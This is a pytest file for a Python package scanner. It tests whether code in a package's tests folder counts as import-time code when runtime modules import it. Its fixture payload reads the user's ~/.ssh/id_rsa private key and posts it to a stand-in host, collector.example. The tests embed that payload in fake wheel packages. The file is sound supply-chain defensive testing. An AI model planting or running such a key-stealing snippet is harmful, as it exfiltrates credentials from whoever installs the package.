"""A payload under tests/ that runtime code imports is read as the import-time code it is."""

from __future__ import annotations

import pytest

from depvet.analysis.imports import IMPORT_MARK, imported_modules, module_parts, runs_on_import
from depvet.model import RunContext, Verdict
from tests.conftest import ScanFiles

_PAYLOAD = (
    "import os\nimport requests\n\n"
    "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "requests.post('https://collector.example/k', data=key)\n"
)


@pytest.mark.parametrize(
    "importer",
    [
        "from .tests import helpers\n",
        "from courier.tests.helpers import setup_logging\n",
        "import courier.tests.helpers as h\n",
        "def _lazy():\n    from .tests.helpers import (\n        a,\n        b,\n    )\n",
    ],
)
def test_a_tests_module_imported_by_the_package_is_import_time_code(
    scan_files: ScanFiles, importer: str
) -> None:
    files = {
        "courier/__init__.py": importer,
        "courier/tests/__init__.py": "",
        "courier/tests/helpers.py": _PAYLOAD,
    }
    result = scan_files(files, artifact="wheel")
    assert result.verdict is Verdict.MALICIOUS
    assert {f.context for f in result.findings if f.path == "courier/tests/helpers.py"} == {RunContext.IMPORT}


def test_the_same_tests_module_nobody_imports_weighs_less(scan_files: ScanFiles) -> None:
    files = {
        "courier/__init__.py": "from .client import send\n",
        "courier/client.py": "def send():\n    return 1\n",
        "courier/tests/__init__.py": "",
        "courier/tests/helpers.py": _PAYLOAD,
    }
    result = scan_files(files, artifact="wheel")
    assert result.verdict is not Verdict.MALICIOUS
    assert {f.context for f in result.findings} <= {RunContext.NON_RUNTIME}


def _imports(path: str, text: str) -> set[tuple[str, ...]]:
    positions = [i for i in range(len(text)) if text.startswith(IMPORT_MARK, i)]
    return imported_modules(path, text, positions)


def test_relative_imports_resolve_against_the_file() -> None:
    found = _imports("pkg-1.0/src/mypkg/sub/mod.py", "from ..tests import a, b\nimport os\n")
    assert found == {
        ("pkg-1.0", "src", "mypkg", "tests"),
        ("pkg-1.0", "src", "mypkg", "tests", "a"),
        ("pkg-1.0", "src", "mypkg", "tests", "b"),
    }


def test_importing_a_module_runs_its_package_init() -> None:
    imported = {("mypkg", "tests", "helpers")}
    assert runs_on_import(module_parts("pkg-1.0/src/mypkg/tests/__init__.py"), imported)
    assert runs_on_import(module_parts("pkg-1.0/src/mypkg/tests/helpers.py"), imported)
    assert not runs_on_import(module_parts("pkg-1.0/src/mypkg/tests/other.py"), imported)
    # "import helpers" alone names no tests folder: it is some other top-level module.
    assert not runs_on_import(module_parts("mypkg/tests/helpers.py"), {("helpers",)})


def test_imports_of_ordinary_modules_are_not_kept() -> None:
    assert _imports("a/b.py", "import os\nfrom json import loads\n") == set()


def test_a_parenthesised_list_is_read_to_its_end() -> None:
    assert ("mypkg", "tests") in _imports("mypkg/__init__.py", "from . import (\n    core,\n    tests,\n)\n")


def test_a_distribution_named_like_a_test_folder_is_runtime_code(scan_files: ScanFiles) -> None:
    # "sample" is a folder name that usually holds examples; here it is the package itself.
    result = scan_files({"sample/__init__.py": _PAYLOAD}, artifact="wheel", name="sample")
    assert result.verdict is Verdict.MALICIOUS
    assert {f.context for f in result.findings} == {RunContext.IMPORT}


def test_its_own_tests_folder_still_weighs_less(scan_files: ScanFiles) -> None:
    result = scan_files(
        {"sample/__init__.py": "", "sample/tests/helpers.py": _PAYLOAD}, artifact="wheel", name="sample"
    )
    assert result.verdict is not Verdict.MALICIOUS
